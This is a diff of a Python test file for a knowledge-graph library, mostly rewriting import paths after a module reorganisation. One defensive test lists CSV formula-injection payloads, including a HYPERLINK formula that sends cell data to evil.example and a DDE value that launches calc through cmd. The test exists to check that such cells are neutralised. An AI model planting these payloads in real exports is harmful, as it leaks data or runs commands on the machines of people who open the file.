@@ -360,7 +360,7 @@ def test_updates_are_refused_on_the_read_only_paths(her_on: graph.KnowledgeGraph
 def test_a_query_over_its_time_limit_is_stopped(store: str) -> None:
     kg = graph.load(store=store)
     # Billions of rows. Oxigraph cannot be interrupted before its first row, so its query
-    # streams rows (an aggregate would compute on in the background: see graph.oxigraph_store).
+    # streams rows (an aggregate would compute on in the background: see graph.stores.oxigraph).
     text = "SELECT * WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }" if store == "oxigraph" else (
         "SELECT (COUNT(*) AS ?n) WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }")
     with pytest.raises(QueryTimeoutError, match=r"ran longer than its 0.3 s time limit"):
@@ -634,7 +634,7 @@ def test_two_builds_with_different_hash_seeds_are_byte_identical(tmp_path: Path)
 
 
 def test_csv_cells_a_spreadsheet_would_run_are_neutralised_reversibly(tmp_path: Path) -> None:
-    from graph.spreadsheet import restore
+    from graph.export.spreadsheet import restore
 
     hostile = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
                "-2+3", "@SUM(A1:A9)", "\tTAB", "'Tis", "-5", "+1.5e3", "Plain Amy"]
@@ -667,7 +667,7 @@ def test_csv_keeps_each_row_whole_whatever_line_breaks_a_text_holds(tmp_path: Pa
     # carriage return when rows end in "\n", so the row broke in two for every reader.
     import csv
 
-    from graph.spreadsheet import restore
+    from graph.export.spreadsheet import restore
 
     texts = ["\r", "a\rb", "line\nbreak", "crlf\r\ninside", "'\r", "=\r"]
     turtle = "".join(f'<https://e/n{i}> <https://schema.org/name> {json.dumps(text)} .\n'
@@ -713,8 +713,8 @@ def long_labels(tmp_path_factory: pytest.TempPathFactory) -> Path:
 
 def test_million_character_labels_load_and_the_page_clips_what_it_shows(
         long_labels: Path) -> None:
-    from graph.page_model import page_model
-    from graph.visualize import page_data, render_html
+    from graph.page.html import page_data, render_html
+    from graph.page.model import page_model
 
     for store in LOCAL_STORES:
         assert len(graph.load(long_labels, store=store)) > 100
